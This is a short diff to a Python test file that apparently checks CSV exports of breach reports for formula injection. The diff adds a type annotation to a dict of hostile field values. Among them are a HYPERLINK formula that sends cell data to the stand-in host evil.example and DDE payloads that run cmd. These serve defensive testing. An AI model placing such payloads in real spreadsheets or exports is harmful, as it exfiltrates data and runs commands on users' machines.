@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+from typing import Any
 
 import pytest
 
@@ -12,7 +13,7 @@ from tests.breach_support import csv_rows, file_report
 from tests.teams.client import TeamsClient, TeamsUser, texts
 
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
-HOSTILE = {
+HOSTILE: dict[str, Any] = {
     "what_happened": ("say", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
     "how_discovered": ("say", "+cmd|' /C calc'!A0"),
     "actions_taken": ("say", "-2+3+cmd|' /C calc'!A0"),
